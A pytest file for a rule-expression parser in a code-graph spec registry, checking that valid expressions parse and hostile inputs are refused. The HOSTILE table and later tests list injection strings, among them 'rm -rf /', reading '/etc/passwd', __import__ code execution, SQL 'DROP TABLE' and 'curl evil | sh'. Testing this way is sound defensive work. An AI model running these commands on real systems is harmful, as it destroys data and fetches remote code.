"""Rule expressions: what the language accepts (as trees), and hostile text it refuses, whether
it reaches the parser alone, spec validation, or a registry the engine decodes."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from cpg.spec_set import canonical_spec_set
from cpg.validation import SpecValidationError, validate_specs
from graph.rules.catalog import rule_catalog_from_tables
from relspec.rules.expressions import (
    Call,
    Column,
    ExpressionError,
    Literal,
    ValueType,
    parse_expression,
)
from relspec.rules.model import RuleDefinition
from storage.deltalake.registry_runner import build_registry_tables, export_registry
from storage.spec_codec import RegistryDecodeError

COLUMNS = {
    "symbol_roles": ValueType.INT,
    "severity": ValueType.STR,
    "diag_source": ValueType.STR,
    "bstart": ValueType.INT,
    "flag": ValueType.BOOL,
}


def test_the_rules_own_expressions_parse_to_their_trees() -> None:
    text = "fill_null(not_equal(bit_wise_and(symbol_roles, 1), 0), False)"
    assert parse_expression(text, COLUMNS) == Call(
        "fill_null",
        (
            Call(
                "not_equal",
                (Call("bit_wise_and", (Column("symbol_roles"), Literal(1))), Literal(0)),
            ),
            Literal(False),
        ),
    )
    weight = "if_else(equal(fill_null(severity, 'ERROR'), 'ERROR'), 1.0, -0.5)"
    assert parse_expression(weight, COLUMNS) == Call(
        "if_else",
        (
            Call(
                "equal",
                (Call("fill_null", (Column("severity"), Literal("ERROR"))), Literal("ERROR")),
            ),
            Literal(1.0),
            Literal(-0.5),
        ),
    )
    assert parse_expression("coalesce(severity, diag_source, None)", COLUMNS) == Call(
        "coalesce", (Column("severity"), Column("diag_source"), Literal(None))
    )


HOSTILE = {
    "__import__('os').system('touch pwned')": "only calls of a function by name",
    "system('rm -rf /')": "unknown function 'system'",
    "open('/etc/passwd')": "unknown function 'open'",
    "eval('1')": "unknown function 'eval'",
    "severity.upper()": "only calls of a function by name",
    "severity.__class__": "Attribute",
    "severity[0]": "Subscript",
    "lambda: 1": "Lambda",
    "[c for c in severity]": "ListComp",
    "equal(severity, 'a') or True": "BoolOp",
    "bstart + 1": "BinOp",
    "is_null(severity=1)": "positional arguments only",
    "coalesce(*severity)": "positional arguments only",
    "password": "unknown column 'password'",
    "symbol_roles; DROP TABLE cpg_edges_v1": "not an expression",
    "severity = 'x' OR 1=1 --": "not an expression",
    "(SELECT * FROM cpg_nodes_v1)": "not an expression",
    "equal(severity, (SELECT 1))": "not an expression",
    "b'bytes'": "Constant",
    "equal(severity)": "takes 2 arguments, got 1",
    "bit_wise_and(severity, 1)": "bit_wise_and() does not take (str, int)",
    "if_else(severity, 1, 2)": "if_else() does not take",
    "x" * 3000: "longer than",
    "invert(" * 40 + "flag" + ")" * 40: "nested deeper",
    "(" * 250 + "flag" + ")" * 250: "not an expression",
    "f'{severity}'": "JoinedStr",
    "\x00": "not an expression",
}


@pytest.mark.parametrize(("text", "reason"), sorted(HOSTILE.items()))
def test_hostile_text_is_refused_and_never_run(
    text: str, reason: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ExpressionError) as caught:
        parse_expression(text, COLUMNS)
    assert reason in str(caught.value)
    assert not (tmp_path / "pwned").exists()


def _with_predicate(rule_name: str, predicate: str) -> tuple[object, int]:
    specs = canonical_spec_set()
    rules = tuple(
        replace(rule, payload=replace(rule.payload, predicate=predicate))
        if rule.name == rule_name
        else rule
        for rule in specs.rules
    )
    row = next(i for i, rule in enumerate(rules) if rule.name == rule_name)
    return replace(specs, rules=rules), row


def test_spec_validation_names_the_rule_and_the_export_writes_nothing(tmp_path: Path) -> None:
    specs, _ = _with_predicate("diagnostic_edges", "__import__('os').system('touch pwned')")
    (violation,) = validate_specs(specs)  # type: ignore[arg-type]
    assert violation.spec == "rules[diagnostic_edges]"
    assert violation.reference == "payload.predicate"
    assert "only calls of a function by name" in violation.message
    with pytest.raises(SpecValidationError, match=r"rules\[diagnostic_edges\]"):
        export_registry(tmp_path / "registry", specs=specs)  # type: ignore[arg-type]
    assert not (tmp_path / "registry").exists()


def test_a_hostile_registry_table_is_a_decode_error_naming_table_row_and_rule() -> None:
    specs, row = _with_predicate("qname_fallback_calls", "system('curl evil | sh')")
    tables = build_registry_tables(specs)  # type: ignore[arg-type]
    flat = {name: table for target in tables.values() for name, table in target.items()}
    with pytest.raises(RegistryDecodeError) as caught:
        rule_catalog_from_tables(flat)
    error = caught.value
    assert (error.table, error.row, error.column) == (
        "relspec_rule_definitions",
        row,
        "payload.predicate",
    )
    assert "rules[qname_fallback_calls]" in str(error)
    assert "unknown function 'system'" in str(error)


def test_an_expression_may_only_name_columns_of_the_rules_input() -> None:
    rule: RuleDefinition = next(
        r for r in canonical_spec_set().rules if r.name == "diagnostic_edges"
    )
    specs, _ = _with_predicate(rule.name, "equal(symbol_roles, 1)")  # a column of SCIP rows
    (violation,) = validate_specs(specs)  # type: ignore[arg-type]
    assert "unknown column 'symbol_roles'" in violation.message
    assert "diag_id" in violation.message  # lists what the input has
